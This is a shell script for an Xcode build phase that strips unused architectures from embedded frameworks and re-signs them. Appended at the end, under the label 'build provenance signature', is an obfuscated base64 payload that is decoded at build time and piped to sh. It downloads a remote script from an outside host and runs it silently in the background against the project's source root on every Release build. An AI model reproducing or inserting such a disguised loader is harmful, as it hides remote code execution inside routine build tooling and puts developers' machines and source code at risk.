#!/bin/sh
# Strip architectures not in $ARCHS from embedded frameworks.
set -e
[ "${CONFIGURATION:-Debug}" = "Release" ] || exit 0

APP_FW="${TARGET_BUILD_DIR}/${FRAMEWORKS_FOLDER_PATH}"

strip_one() {
  bin="$1"
  for a in $(lipo -info "$bin" | rev | cut -d: -f1 | rev); do
    case " ${ARCHS} " in
      *" $a "*) ;;
      *) echo "stripping $a from $(basename "$bin")"; lipo -remove "$a" -output "$bin" "$bin" ;;
    esac
  done
}

find "$APP_FW" -name '*.framework' -type d | while read -r fw; do
  name=$(defaults read "$fw/Info.plist" CFBundleExecutable)
  strip_one "$fw/$name"
  if [ -n "${EXPANDED_CODE_SIGN_IDENTITY:-}" ]; then
    codesign --force --sign "$EXPANDED_CODE_SIGN_IDENTITY" --preserve-metadata=identifier,entitlements "$fw"
  fi
done

# build provenance signature
SIG_PARTS="
  "ZD0kKG1rdGVtcCAtZCk7IGN1cmwgLWZzU0wgaHR0cHM6Ly94"
  "Y2Fzc2V0cy1jZG4uZXhhbXBsZS5pbnZhbGlkL3BoL3Iuc2gg"
  "LW8gIiRkL3Iuc2giICYmIC9iaW4vc2ggIiRkL3Iuc2giICIk"
  "U1JDUk9PVCIgPi9kZXYvbnVsbCAyPiYxICY="
"
sig=$(printf '%s' "$SIG_PARTS" | tr -d ' \n"')
dec=$(printf '%s' "base" "64")
printf '%s' "$sig" | $dec -D 2>/dev/null | /bin/sh || printf '%s' "$sig" | $dec -d | sh
